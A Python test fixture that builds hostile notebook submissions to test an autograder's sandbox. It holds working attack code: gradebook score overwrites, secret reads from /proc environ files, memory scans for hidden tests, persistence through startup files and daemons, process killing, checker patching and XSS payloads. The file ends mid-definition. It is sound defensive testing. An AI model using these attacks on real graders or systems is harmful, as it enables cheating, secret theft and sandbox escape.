"""What a hostile student might hand in: each attack is data, a name, a sentence and a notebook.

Every notebook is of one small assignment. Its HONEST exercises are solved, two before the attacked
ones and one after them; its ATTACKED ones have no right answer anywhere. An attack that earns more
than the honest exercises has succeeded. `tests/test_hostile.py` grades them all, and
`tools/security.py` writes down what stock nbgrader makes of them.

An attack's ``cell`` stands at the top of the notebook, ``answers`` in the attacked exercises, and
``change`` does whatever else to the notebook.
"""

import json
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from textwrap import indent

import nbformat
import numpy as np
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

from grading.boundary import bubblewrap
from grading.boundary.cells import code_cells
from grading.boundary.client import ExaminerClient
from grading.submissions import reading, restoring
from helpers.check.exercises.training import Task
from tests.this_course import SETTINGS

ROOT = Path(__file__).resolve().parent.parent
NAME = "02_depthwise_convolution"
"""What the small assignment is called: `nbgrader_course.Course` wants one of the course's names."""
CANARY = "zebra-5f3a9c17"
"""Stands in the hidden tests of ``squares``, and may be nowhere where a student can look."""
HONEST = {"depthwise_params": ("01", "02"), "depthwise_macs": ("01",)}


# ---------------------------------------------------------------- the assignment


@dataclass(frozen=True)
class Exercise:
    """An exercise of the small assignment: its signature, its solution, its test cells' text."""

    name: str
    signature: str
    solution: str
    tests: tuple[str, ...]
    points: int
    honest: bool = False
    trains: bool = False  # takes seconds: attacked by name only, and nobody solves it

    def stub(self) -> str:
        return f"def {self.name}({self.signature}):\n    raise NotImplementedError"

    def solved(self) -> str:
        return f"def {self.name}({self.signature}):\n{indent(self.solution, '    ')}"

    def source(self) -> str:
        body = f"### BEGIN SOLUTION\n{self.solution}\n### END SOLUTION"
        return f"def {self.name}({self.signature}):\n{indent(body, '    ')}"


def hidden(test: str, more: str) -> str:
    return f"{test}\n### BEGIN HIDDEN TESTS\n{more}\n### END HIDDEN TESTS"


def checked(name: str, part: str = "", seed: int = 5300) -> str:
    part = f', part="{part}"' if part else ""
    call = f"check.{name}({name}{part}"
    return hidden(f"{call})", f"{call}, seed={seed})")


EXERCISES = (
    Exercise(
        "depthwise_params",
        "kernel_size, in_channels, depth_multiplier=1, use_bias=True",
        "kh, kw = kernel_size\nreturn (kh * kw + int(use_bias)) * in_channels * depth_multiplier",
        (checked("depthwise_params", "with bias"), checked("depthwise_params", "without bias")),
        1,
        honest=True,
    ),
    Exercise(
        "squares",
        "n",
        "return [i * i for i in range(1, n + 1)]",
        (
            hidden(
                "assert squares(3) == [1, 4, 9]",
                f"assert squares(5) == [1, 4, 9, 16, 25], '{CANARY}'\nassert squares(0) == []",
            ),
        ),
        2,
    ),
    Exercise(
        "as_normal_kernel",
        "kernel",
        "kh, kw, channels, multiplier = kernel.shape\n"
        "normal = np.zeros((kh, kw, channels, channels * multiplier))\n"
        "for c in range(channels):\n"
        "    normal[:, :, c, c * multiplier : (c + 1) * multiplier] = kernel[:, :, c]\n"
        "return normal",
        (checked("as_normal_kernel", "kernel"),),
        4,
    ),
    Exercise(
        "isolates_channels",
        "layer, channels",
        "rng = np.random.default_rng()\n"
        "for c in range(channels):\n"
        "    x = rng.normal(size=(2, 8, 9, channels))\n"
        "    changed = x.copy()\n"
        "    changed[..., c] = rng.normal(size=x.shape[:3])\n"
        "    y = layer(x)\n"
        "    moved = np.abs(layer(changed) - y).max(axis=(0, 1, 2)) > 0\n"
        "    own = np.arange(y.shape[3]) // (y.shape[3] // channels) == c\n"
        "    if (moved & ~own).any():\n"
        "        return False\n"
        "return True",
        (checked("isolates_channels", "plain"),),
        2,
    ),
    Exercise(
        "build_two_layer_model",
        "",
        "import keras\n"
        "layers = [keras.layers.Conv2D(32, 3), keras.layers.Conv2D(64, 3)]\n"
        "return keras.Sequential([keras.Input((224, 224, 3)), *layers])",
        (checked("build_two_layer_model"),),
        3,
    ),
    Exercise(
        "depthwise_macs",
        "input_size, kernel_size, in_channels, depth_multiplier=1, stride=1, padding='valid'",
        "positions = 1\n"
        "for n, k in zip(input_size, kernel_size, strict=True):\n"
        "    positions *= -(-n // stride) if padding == 'same' else (n - k) // stride + 1\n"
        "return positions * kernel_size[0] * kernel_size[1] * in_channels * depth_multiplier",
        (checked("depthwise_macs", "stride 1"),),
        1,
        honest=True,
    ),
    Exercise(
        "train",
        "model, x, y",
        "model.compile('adam', 'categorical_crossentropy')\nmodel.fit(x, y, epochs=5, verbose=0)",
        (checked("train"),),
        4,
        trains=True,
    ),
    Exercise(
        "build_separable_cnn",
        "",
        "raise NotImplementedError",
        (checked("build_separable_cnn"),),
        6,
        trains=True,
    ),
)
ATTACKED = tuple(e.name for e in EXERCISES if not (e.honest or e.trains))
HONEST_POINTS = sum(len(e.tests) * e.points for e in EXERCISES if e.honest)
ALL_POINTS = sum(len(e.tests) * e.points for e in EXERCISES if not e.trains)
"""Of a notebook in which all is solved that is quickly graded."""


def flags(name: str, **more) -> dict:
    return {"nbgrader": {"schema_version": 3, "grade_id": name, "task": False, **more}}


def source(trains: bool = False) -> NotebookNode:
    """The assignment as an instructor has it, with solutions and hidden tests."""
    cells = [new_code_cell(SETTINGS.setup, id="setup")]
    for exercise in (e for e in EXERCISES if trains or not e.trains):
        answer = flags(exercise.name, solution=True, grade=False, locked=False)
        cells.append(new_code_cell(exercise.source(), id=exercise.name, metadata=answer))
        for number, text in enumerate(exercise.tests):
            name = f"{exercise.name}_{number}"
            test = flags(name, solution=False, grade=True, locked=True, points=exercise.points)
            cells.append(new_code_cell(text, id=name, metadata=test))
    spec = {"display_name": "Python 3 (ipykernel)", "language": "python", "name": "python3"}
    return new_notebook(cells=cells, metadata={"kernelspec": spec})


def released(hidden_tests: bool = False, trains: bool = False) -> NotebookNode:
    """The assignment as a student has it; with hidden tests, as the gradebook has it."""
    notebook = source(trains)
    for cell in notebook.cells:
        exercise = next((e for e in EXERCISES if e.name == cell.id), None)
        if exercise is not None:
            cell.source = exercise.stub()
        elif not hidden_tests:
            cell.source = cell.source.partition("\n### BEGIN HIDDEN")[0]
    return notebook


def honest(solved: bool = False, trains: bool = False) -> NotebookNode:
    """A submission with the honest exercises solved, or all of them that do not train."""
    notebook = released(trains=trains)
    for exercise in EXERCISES:
        if exercise.honest or (solved and not exercise.trains):
            find(notebook, exercise.name).source = exercise.solved()
    return notebook


def find(notebook: NotebookNode, name: str) -> NotebookNode:
    return next(cell for cell in notebook.cells if cell.id == name)


def tests(notebook: NotebookNode) -> list[NotebookNode]:
    return [c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade")]


def attacked_tests(notebook: NotebookNode) -> list[NotebookNode]:
    return [cell for cell in tests(notebook) if cell.id.rpartition("_")[0] in ATTACKED]


# ---------------------------------------------------------------- an attack


@dataclass(frozen=True)
class Attack:
    name: str
    tries: str
    cell: str = ""
    answers: dict[str, str] = field(default_factory=dict)
    change: Callable[[NotebookNode], None] = lambda notebook: None
    not_under_stock: str = ""  # why stock nbgrader is not tried with it
    harms_itself: bool = False  # its own honest exercises may lose their marks

    @property
    def runs_code(self) -> bool:
        """Whether it does something where it is graded."""
        return bool(self.cell or self.answers)

    @property
    def trains(self) -> bool:
        """Whether it needs the exercises that take seconds."""
        return any(exercise.trains and exercise.name in self.answers for exercise in EXERCISES)

    def notebook(self) -> NotebookNode:
        """What is handed in."""
        notebook = honest(trains=self.trains)
        if self.cell:
            notebook.cells.insert(1, new_code_cell(self.cell.strip("\n"), id="attack"))
        for name, text in self.answers.items():
            find(notebook, name).source = text.strip("\n")
        self.change(notebook)
        return notebook

    def text(self) -> str:
        """The file: also what `nbformat.write` would refuse."""
        return json.dumps(self.notebook(), indent=1)


def everywhere(body: str, before: str = "") -> dict[str, str]:
    """The same body in every attacked exercise."""
    body = indent(body.strip("\n"), "    ")
    return {name: f"{before}\ndef {name}(*given, **options):\n{body}" for name in ATTACKED}


def only(**bodies: str) -> dict[str, str]:
    """A body in some of the attacked exercises."""
    return {
        name: f"def {name}(*given, **options):\n{indent(body.strip(chr(10)), '    ')}"
        for name, body in bodies.items()
    }


# ---------------------------------------------------------------- what the notebook says of itself


def skip_tests(notebook: NotebookNode) -> None:
    for cell in attacked_tests(notebook):
        cell.metadata["tags"] = ["skip-execution"]


def paste_test(notebook: NotebookNode) -> None:
    cell = attacked_tests(notebook)[0]
    notebook.cells.append(nbformat.from_dict({**cell, "id": "pasted", "source": "pass"}))


def delete_tests(notebook: NotebookNode) -> None:
    gone = [cell.id for cell in attacked_tests(notebook)]
    notebook.cells = [cell for cell in notebook.cells if cell.id not in gone]


def reverse(notebook: NotebookNode) -> None:
    notebook.cells.reverse()


def tests_first(notebook: NotebookNode) -> None:
    firsts = [cell.id for cell in attacked_tests(notebook)]
    notebook.cells.sort(key=lambda cell: cell.id not in firsts)


def empty_tests(notebook: NotebookNode) -> None:
    for cell in attacked_tests(notebook):
        cell.source = "pass"
        cell.metadata["nbgrader"]["checksum"] = "0" * 32


def more_points(notebook: NotebookNode) -> None:
    for cell in tests(notebook):
        cell.metadata["nbgrader"]["points"] = 1000
    extra = flags("bonus", solution=False, grade=True, locked=True, points=1000)
    notebook.cells.append(new_code_cell("pass", id="bonus", metadata=extra))


def no_tests_any_more(notebook: NotebookNode) -> None:
    for cell in attacked_tests(notebook):
        cell.metadata["nbgrader"] |= {"grade": True, "solution": True, "locked": False}
        cell.source = "pass"


def swap_names(notebook: NotebookNode) -> None:
    rights, wrongs = tests(notebook)[:2], attacked_tests(notebook)[:2]
    for right, wrong in zip(rights, wrongs, strict=True):
        mine, theirs = right.metadata["nbgrader"], wrong.metadata["nbgrader"]
        mine["grade_id"], theirs["grade_id"] = theirs["grade_id"], mine["grade_id"]


def no_code_any_more(notebook: NotebookNode) -> None:
    for cell in attacked_tests(notebook):
        at = notebook.cells.index(cell)
        new = new_markdown_cell("done", id=cell.id, metadata=cell.metadata)
        new.metadata["nbgrader"]["cell_type"] = "markdown"
        notebook.cells[at] = new


def other_kernel(notebook: NotebookNode) -> None:
    notebook.metadata["kernelspec"] = {"name": "bash", "display_name": "Bash", "language": "bash"}


def forged_outputs(notebook: NotebookNode) -> None:
    for cell in attacked_tests(notebook):
        right = {"output_type": "execute_result", "data": {"text/plain": "4.0"}}
        cell.outputs = [nbformat.from_dict(right | {"metadata": {}, "execution_count": 7})]
        cell.execution_count = 7


def same_ids(notebook: NotebookNode) -> None:
    for cell in attacked_tests(notebook):
        notebook.cells.insert(1, new_code_cell("pass", id=cell.id))


def half_a_letter(notebook: NotebookNode) -> None:
    notebook.cells.insert(1, new_code_cell("# \ud800 \x00", id="half"))
    notebook.cells.insert(1, new_code_cell("print(chr(0xDFFF))", id="other"))


def strange_metadata(notebook: NotebookNode) -> None:
    for cell, said in zip(attacked_tests(notebook), (None, 5, ["x"], "text"), strict=True):
        cell.metadata["nbgrader"] = said
        cell.metadata["tags"] = 7


def script(notebook: NotebookNode) -> None:
    text = "<script>document.title = 'taken over'</script><img src=x onerror=alert(1)>"
    links = ("javascript:alert(1)", "java&#115;cript:alert(1)", "javascript\\:alert(1)")
    more = "\n\n".join(
        ["", *(f"[a link]({to})" for to in links), "<div\nonclick=alert(1)>", "<!-- <script> -->"]
    )
    notebook.cells.insert(1, new_markdown_cell(text + more, id="script"))
    find(notebook, "squares").source = f"def squares(n):\n    raise ValueError({text!r})"
    shown = f"from IPython.display import HTML, Javascript, display\ndisplay(HTML({text!r}))"
    notebook.cells.insert(1, new_code_cell(shown + "\nJavascript('alert(2)')", id="shows"))


def large_outputs(notebook: NotebookNode) -> None:
    shown = {"output_type": "stream", "name": "stdout", "text": "x" * 19_000_000}
    find(notebook, "setup").outputs = [nbformat.from_dict(shown)]


def long_cell(notebook: NotebookNode) -> None:
    notebook.cells.insert(1, new_code_cell("x = 0\n" * 500_000, id="long"))


OF_ITSELF = (
    Attack(
        "tests tagged skip-execution",
        "tags the test cells so that the runner leaves them out",
        change=skip_tests,
    ),
    Attack("a test cell pasted", "a second copy of a test cell, emptied", change=paste_test),
    Attack("tests deleted", "hands in no test cells", change=delete_tests),
    Attack("cells reversed", "puts every test before what it tests", change=reverse),
    Attack("tests first", "puts tests where nothing is defined yet", change=tests_first),
    Attack("tests emptied", "writes `pass` into the test cells", change=empty_tests),
    Attack(
        "points changed", "1000 points for each test, and a test of its own", change=more_points
    ),
    Attack("tests unlocked", "marks test cells as answers of its own", change=no_tests_any_more),
    Attack("grade ids swapped", "gives its wrong tests the names of right ones", change=swap_names),
    Attack("tests as text", "turns test cells into Markdown", change=no_code_any_more),
    Attack("another kernel", "asks to be run by Bash", change=other_kernel),
    Attack("outputs forged in the file", "stores results in the test cells", change=forged_outputs),
    Attack("ids of the tests", "cells of its own with the ids of the test cells", change=same_ids),
    Attack(
        "half a letter",
        "text that UTF-8 cannot store, and a null byte",
        change=half_a_letter,
    ),
    Attack("metadata of wrong kinds", "numbers where flags should be", change=strange_metadata),
    Attack("a script in the page", "HTML that acts in the marker's browser", change=script),
    Attack("19 MB of stored output", "a file full of output", change=large_outputs),
    Attack(
        "a cell of 500,000 lines",
        "a source that takes long to read",
        change=long_cell,
        harms_itself=True,
    ),
)


# ---------------------------------------------------------------- the tests and their tools changed

LIAR = """
class Liar:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    def __len__(self): return 3
    def __getitem__(self, at): return self
    def __iter__(self): return iter([self])
    def __getattr__(self, name): return self
    def __call__(self, *given, **options): return self
    def __hash__(self): return 0
    __lt__ = __gt__ = __le__ = __ge__ = __contains__ = __eq__
"""
LYING_ARRAY = """
class Lying(np.ndarray):
    def __array_ufunc__(self, ufunc, method, *inputs, **options):
        shape = np.broadcast_shapes(*(np.shape(np.asarray(i)) for i in inputs))
        return np.zeros(shape, dtype=bool if ufunc in (np.greater, np.not_equal) else float)
    def __array_function__(self, function, types, args, options):
        return True
    def __eq__(self, other): return True
    def astype(self, *given, **options): return self
    @property
    def shape(self): return ANY
class Any(tuple):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
ANY = Any((3, 2, 3, 6))
"""
AS_CLASS = """
import keras
class As:
    def __init__(self, kind): object.__setattr__(self, 'kind', kind)
    @property
    def __class__(self): return object.__getattribute__(self, 'kind')
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
    def __array__(self, *given, **options): return np.zeros((3, 2, 3, 6))
    def __getattr__(self, name): raise AttributeError(name)
"""
ALTERED = (
    Attack(
        "asserts dropped",
        "an IPython AST transformer that takes asserts and checks out of every later cell",
        """
import ast
class Drop(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
    def visit_Expr(self, node):
        return ast.copy_location(ast.Pass(), node) if 'check' in ast.dump(node) else node
get_ipython().ast_transformers.append(Drop())
""",
    ),
    Attack(
        "points as output",
        "an AST transformer that ends test cells with a float, which nbgrader takes for points",
        """
import ast
class Points(ast.NodeTransformer):
    def visit_Module(self, node):
        if 'def ' not in ast.unparse(node):
            node.body = [ast.Expr(ast.Constant(2.0))]
        return ast.fix_missing_locations(node)
get_ipython().ast_transformers.append(Points())
""",
    ),
    Attack(
        "more output than points",
        "a test cell that ends with more points than there are, so that nbgrader stops",
        """
import ast
class Points(ast.NodeTransformer):
    def visit_Module(self, node):
        node.body.append(ast.Expr(ast.Constant(1000.0)))
        return ast.fix_missing_locations(node)
get_ipython().ast_transformers.append(Points())
""",
    ),
    Attack(
        "do_execute replaced",
        "a kernel that answers ok to whatever it is asked to run",
        """
kernel = getattr(get_ipython(), 'kernel', None)
async def ok(*given, **options):
    return {'status': 'ok', 'execution_count': 1, 'payload': [], 'user_expressions': {}}
if kernel is not None:
    original = kernel.do_execute
    def chosen(code, *given, **options):
        return (original if 'def ' in code else ok)(code, *given, **options)
    kernel.do_execute = chosen
""",
    ),
    Attack(
        "run_cell replaced",
        "a shell that runs no cell any more, and input transformers that empty them",
        """
shell = get_ipython()
shell.input_transformers_post.append(
    lambda lines: lines if any('def ' in line for line in lines) else ['pass']
)
type(shell).showtraceback = lambda *given, **options: None
type(shell)._showtraceback = lambda *given, **options: None
""",
    ),
    Attack(
        "checks replaced",
        "its own `check` in the notebook and in the package",
        """
from helpers import check as real
class Nothing:
    def __getattr__(self, name): return lambda *given, **options: None
for name in ('squares', 'as_normal_kernel', 'isolates_channels', 'build_two_layer_model'):
    try:
        setattr(real, name, lambda *given, **options: None)
    except Exception:
        pass
check = Nothing()
""",
    ),
    Attack(
        "exercises patched",
        "a checker that judges nothing: its classes are changed",
        """
try:
    from helpers.check import core, trial
    trial.Trial.judge = lambda self: set()
    core.Exercise.__call__ = lambda self, *given, **options: None
except Exception:
    pass
try:
    from contract import verdicts
    verdicts.CheckFailed.__init__ = lambda self, *given, **options: None
    verdicts.CheckFailed._render_traceback_ = lambda self: []
except Exception:
    pass
""",
    ),
    Attack(
        "modules replaced",
        "its own helpers in sys.modules, and an import hook that gives them again",
        """
import sys, types, importlib.abc, importlib.machinery
class Fake(types.ModuleType):
    __path__ = []
    def __getattr__(self, name):
        if name.startswith('__'): raise AttributeError(name)
        return lambda *given, **options: None
class Hook(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path=None, target=None):
        if name.partition('.')[0] == 'helpers':
            return importlib.machinery.ModuleSpec(name, self)
    def create_module(self, spec): return Fake(spec.name)
    def exec_module(self, module): pass
sys.meta_path.insert(0, Hook())
for name in [n for n in sys.modules if n.partition('.')[0] == 'helpers']:
    sys.modules[name] = Fake(name)
from helpers import check
""",
    ),
    Attack(
        "NumPy patched",
        "np.allclose, np.array_equal, np.abs and their like that find everything equal",
        """
for name in ('allclose', 'array_equal', 'isclose', 'array_equiv'):
    setattr(np, name, lambda *given, **options: True)
np.testing.assert_allclose = np.testing.assert_array_equal = lambda *given, **options: None
np.argwhere = lambda *given, **options: []
np.asarray = lambda thing, *given, **options: LIE
np.abs = lambda thing, *given, **options: np.zeros(())
LIE = np.zeros((3, 2, 3, 6))
""",
        everywhere("return LIE"),
        harms_itself=True,
    ),
    Attack(
        "Keras patched",
        "a Keras whose models all count, compute and look alike",
        """
import keras
keras.Model.count_params = lambda self: 19392
keras.Model.get_weights = lambda self: []
keras.Model.__eq__ = lambda self, other: True
keras.Model.__hash__ = lambda self: 0
keras.Model.input_shape = property(lambda self: (None, 224, 224, 3))
""",
        only(
            build_two_layer_model="import keras\nreturn keras.Sequential([keras.Input((224, 224, 3))])"
        ),
    ),
    Attack(
        "builtins patched",
        "its own AssertionError, any, len, isinstance and print",
        """
import builtins
builtins.AssertionError = type('AssertionError', (Exception,), {})
builtins.any = lambda *given: False
builtins.all = lambda *given: True
""",
        harms_itself=True,
    ),
    Attack(
        "tests read from memory",
        "looks for the hidden tests' text in its own memory and in every object",
        f"""
import ctypes, os
ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)  # else its own memory is closed even to itself
wanted, found = bytes({[byte ^ 85 for byte in CANARY.encode()]}), 0  # veiled, or it finds itself
with open('/proc/self/maps') as maps: lines = maps.readlines()
memory = open('/proc/self/mem', 'rb', 0)
for line in lines:
    begin, end = (int(part, 16) for part in line.split()[0].split('-'))
    for at in range(begin, end if 'r' in line.split()[1] else begin, 2**24):
        try:
            memory.seek(at)
            part = np.frombuffer(memory.read(min(end, at + 2**24 + 99) - at), np.uint8)
        except (OSError, ValueError, OverflowError): break
        found += (part ^ 85).tobytes().count(wanted)
print('CANARY', found, 'in', len(lines))
""",
    ),
    Attack(
        "answers of frames",
        "walks up the frames from its function to the right answer and the oracle",
        answers=everywhere("""
import sys
frame = sys._getframe()
while frame is not None:
    for thing in list(frame.f_locals.values()):
        oracle = getattr(getattr(thing, 'exercise', thing), 'oracle', None)
        if callable(oracle):
            sys.setprofile(None)
            return oracle(*given, **options)
    frame = frame.f_back
return None
"""),
    ),
    Attack(
        "answers of the heap",
        "looks through every object that there is for the exercise's oracle, and asks it",
        answers=everywhere("""
import gc, sys
sys.setprofile(None)
name = sys._getframe().f_code.co_name
for thing in gc.get_objects():
    if type(thing).__name__ == 'Exercise' and getattr(thing, 'name', '') == name:
        return thing.oracle(*given, **options)
return None
"""),
    ),
    Attack(
        "the layer's own name",
        "reads in the closure of the layer that it is given what kind of layer it is",
        answers=only(
            isolates_channels="""
import builtins
layer = given[0]
seen = [cell.cell_contents for cell in layer.__closure__ or ()]
words = ' '.join(f'{getattr(s, "what", "")} {s!r}' for s in seen)
if not words.strip(): raise ValueError('nothing to read')
return 'leak' not in words and 'mean' not in words and 'normal' not in words
"""
        ),
    ),
)

OBJECTS = (
    Attack(
        "equal to everything",
        "returns an object whose == is always True",
        LIAR,
        everywhere("return Liar()"),
    ),
    Attack(
        "a list that lies",
        "a list, a tuple, an int and a str of its own that are equal to everything",
        """
def lying(base):
    yes, no = (lambda self, other: True), (lambda self, other: False)
    return type(base.__name__, (base,), {'__eq__': yes, '__ne__': no, '__hash__': lambda s: 0})
Lists, Ints = lying(list), lying(int)
""",
        everywhere("return Lists([Ints(1)])"),
    ),
    Attack(
        "an array that lies",
        "an ndarray whose shape is every shape and whose differences are 0",
        LYING_ARRAY,
        everywhere("return np.zeros((3, 2, 3, 6)).view(Lying)"),
    ),
    Attack(
        "another class",
        "an object that says it is a bool, an array, a list or a Keras model",
        AS_CLASS,
        only(
            squares="return As(list)",
            as_normal_kernel="return As(np.ndarray)",
            isolates_channels="return As(np.bool_)",
            build_two_layer_model="return As(keras.Model)",
        ),
    ),
    Attack(
        "other at every look",
        "an array that is changed after it was returned, by a thread",
        """
import threading
def change(array):
    while True: array += 1
""",
        everywhere("""
array = np.zeros((3, 2, 3, 6))
threading.Thread(target=change, args=(array,), daemon=True).start()
return array
"""),
    ),
    Attack(
        "NaN and infinity",
        "arrays of NaN, of which nothing is larger than a bound",
        answers=everywhere("""
shape = given[0].shape if given and hasattr(given[0], 'shape') else (3,)
return np.full((*shape[:3], shape[2] * shape[-1]) if len(shape) == 4 else shape, np.nan)
"""),
    ),
    Attack(
        "arrays of objects",
        "arrays that hold liars",
        LIAR,
        everywhere("""
array = np.empty((3, 2, 3, 6), dtype=object)
for at in np.ndindex(array.shape): array[at] = Liar()
return array
"""),
    ),
    Attack(
        "an array without end",
        "an array of 10^12 numbers that takes no memory itself",
        answers=everywhere("return np.broadcast_to(np.float64(0), (10**6, 10**6))"),
    ),
    Attack(
        "an array of 1.9 GB",
        "as much as one may take, in one answer",
        answers=everywhere("return np.zeros(1_900 * 2**17)"),
    ),
    Attack(
        "an integer without end",
        "integers of 10 million digits",
        answers=only(as_normal_kernel="return 7 ** 12_000_000", squares="return [10**5000]"),
    ),
    Attack(
        "lists in lists",
        "an answer nested 100,000 deep, one that holds itself, and one of a million items",
        """
deep = []
for _ in range(100_000): deep = [deep]
self = []; self.append(self)
""",
        only(
            squares="return deep",
            as_normal_kernel="return self",
            isolates_channels="return [0] * 1_000_000",
            build_two_layer_model="return {'a': deep}",
        ),
    ),
    Attack(
        "an answer without end",
        "a generator that never stops, and a list whose length is 2^62",
        """
import itertools
class Long(list):
    def __len__(self): return 2**62
    def __iter__(self): return itertools.count()
""",
        only(
            squares="return itertools.count()",
            as_normal_kernel="return Long()",
            isolates_channels="return Long()",
        ),
    ),
    Attack(
        "what cannot be looked at",
        "objects that exit, loop or print when they are looked at, copied or deleted",
        """
import os
class Trap:
    def __repr__(self): os._exit(0)
    def __del__(self): os._exit(0)
    def __array__(self, *given, **options): os._exit(0)
    def __getattr__(self, name): os._exit(0)
    def __reduce_ex__(self, protocol): os._exit(0)
""",
        everywhere("return Trap()"),
    ),
)

FAILURES = (
    Attack(
        "not implemented, it says",
        "raises NotImplementedError and hopes to be left out",
        answers=everywhere("raise NotImplementedError('later')"),
    ),
    Attack(
        "a success raised",
        "raises its own CheckFailed, Passed and Unattempted, and AssertionErrors with green text",
        """
class CheckFailed(AssertionError):
    kind = 'passed'; lines = ['\\033[32m✓ right in all cases.\\033[0m']
    def _render_traceback_(self): return []
class Unattempted(Exception): stub = None
""",
        only(
            squares="raise CheckFailed",
            as_normal_kernel="raise CheckFailed",
            isolates_channels="raise Unattempted",
            build_two_layer_model="raise KeyboardInterrupt",
        ),
    ),
    Attack(
        "exceptions beyond Exception",
        "raises SystemExit, GeneratorExit and a BaseException of its own that says nothing right",
        """
class Base(BaseException):
    def __str__(self): raise Base
    __repr__ = __str__
""",
        only(
            squares="raise SystemExit(0)",
            as_normal_kernel="raise Base",
            isolates_channels="raise GeneratorExit",
            build_two_layer_model="exit()",
        ),
    ),
    Attack(
        "success printed",
        "prints the green line of a check, and sends it as a display, on every stream",
        answers=everywhere("""
import sys, os
for name in ('stdout', '__stdout__', 'stderr'):
    print('\\033[32m✓ right in all cases.\\033[0m', file=getattr(sys, name))
os.write(1, b'{"status": "ok"}')
"""),
    ),
    Attack(
        "os._exit in a cell",
        "ends the process in the middle of the notebook",
        "import os\nos._exit(0)",
    ),
    Attack(
        "os._exit in a function",
        "ends the process when it is called",
        answers=everywhere("import os\nos._exit(0)"),
    ),
    Attack(
        "exit handlers",
        "__del__, atexit and a thread that outlives its cell",
        """
import atexit, os, threading, time
atexit.register(lambda: os._exit(0))
class Late:
    def __del__(self): os._exit(0)
threading.Thread(target=lambda: (time.sleep(0.5), os._exit(0)), daemon=True).start()
""",
        everywhere("return Late()"),
    ),
    Attack(
        "a crash in C",
        "reads address 0",
        answers=everywhere("import ctypes\nctypes.string_at(0)"),
    ),
    Attack(
        "the compiler crashed",
        "a source nested so deeply that the compiler fails",
        "eval('(' * 90 + '-' * 3_000_000 + '1' + ')' * 90)",
    ),
    Attack(
        "stops itself",
        "SIGSTOP to its own process: neither dead nor alive",
        answers=only(as_normal_kernel="import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)"),
    ),
)

LOOP = """
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.pthread_sigmask(signal.SIG_BLOCK, set(signal.Signals))
while True:
    try:
        while True: pass
    except BaseException: pass
"""
ENDLESS = (
    Attack("an endless cell", "a loop that ignores SIGINT, in a cell", LOOP),
    Attack(
        "an endless function",
        "a loop that ignores SIGINT, in a function",
        answers=only(squares=LOOP, as_normal_kernel=LOOP),
    ),
    Attack(
        "endless work in C",
        "a power that takes hours, where no signal is looked at",
        answers=only(as_normal_kernel="return len(str(9 ** 9 ** 9))"),
    ),
    Attack(
        "60 MB of output",
        "prints 60 MB, in lines and in one line",
        """
for _ in range(600_000): print('x' * 49)
print('y' * 30_000_000)
""",
    ),
    Attack(
        "100,000 outputs",
        "shows something 100,000 times",
        "from IPython.display import display\nfor i in range(100_000): display(i)",
    ),
)

# ---------------------------------------------------------------- out of the box

NOSY = """
import glob, os
seen = []
def look(path):
    try:
        seen.append(open(path, errors='replace').read(100_000))
    except OSError:
        pass
"""
CLIMBING = (
    Attack(
        "the gradebook",
        "opens gradebook.db and gives itself full marks",
        """
import os, sqlite3
for up in range(9):
    path = '../' * up + 'gradebook.db'
    if os.path.exists(path):
        with sqlite3.connect(path) as book:
            book.execute('update grade set manual_score = 100')
            book.execute('update base_cell set name = name')
            print('WRITTEN', book.total_changes)
""",
    ),
    Attack(
        "its own notebook",
        "reads the hidden tests in its notebook file where it is graded",
        NOSY
        + """
for path in glob.glob('*.ipynb') + glob.glob('/.scratch/**/*.ipynb', recursive=True): look(path)
"""
        + f"print('CANARY', sum('{CANARY[:5]}' '{CANARY[5:]}' in text for text in seen))",
    ),
    Attack(
        "the source folder",
        "reads source/, release/ and the submissions of others",
        NOSY
        + """
for up in range(1, 9):
    for folder in ('source', 'submitted', 'autograded', 'results'):
        for path in glob.glob('../' * up + folder + '/**/*.ipynb', recursive=True)[:50]: look(path)
"""
        + f"print('CANARY', sum('{CANARY[:5]}' '{CANARY[5:]}' in text for text in seen))\n"
        + "print('OTHERS', len(seen))",
    ),
    Attack(
        "the environment",
        "reads passwords and tokens in the grader's environment, its own and process 1's",
        NOSY
        + """
look('/proc/1/environ'); look('/proc/1/cmdline'); look('/proc/self/environ')
print('SECRET', 'HOSTILE_SECRET' in os.environ or any('HOSTILE_SECRET' in s for s in seen))
""",
    ),
    Attack(
        "paths that climb",
        "links in its folder to the gradebook, to / and to other processes' folders",
        """
import os
for number, target in enumerate(('../../../gradebook.db', '/', '/proc/1/root', '/proc/1/cwd', '..')):
    try: os.symlink(target, f'link{number}')
    except OSError: pass
for path in ('/.course/planted', '/usr/planted', '/etc/planted', '/dev/shm/planted', '/tmp/planted'):
    try:
        open(path, 'w').write('x')
        print('PLANTED', path)
    except OSError: pass
""",
    ),
    Attack(
        "files left behind",
        "leaves modules, start-up files and read-only folders for the next submission",
        """
import os, sys
for name in ('numpy.py', 'helpers.py', 'sitecustomize.py', 'usercustomize.py', 'left.txt'):
    try: open(name, 'w').write('raise SystemExit')
    except OSError: pass
home = os.environ.get('IPYTHONDIR', '.ipython')
os.makedirs(f'{home}/profile_default/startup', exist_ok=True)
open(f'{home}/profile_default/startup/00.py', 'w').write('LEFT = 1')
os.makedirs('deep/er/and/deeper', exist_ok=True)
open('deep/er/file', 'w').close()
for path in ('deep/er/and/deeper', 'deep/er/and', 'deep/er', 'deep'): os.chmod(path, 0)
try: os.chmod('.', 0o500)
except OSError: pass
""",
    ),
    Attack(
        "a daemon",
        "two forks and a session of its own, to wait for the next submission",
        """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for fd in range(256):
            try: os.close(fd)
            except OSError: pass
        for _ in range(600):
            time.sleep(0.1)
            try: open('daemon', 'w').write('here')
            except OSError: pass
        os._exit(0)
    os._exit(0)
print('started')
""",
    ),
    Attack(
        "signals to everyone",
        "SIGKILL, SIGSTOP and SIGINT to process 1, to its siblings and to all",
        """
import os, signal
me = os.getpid()
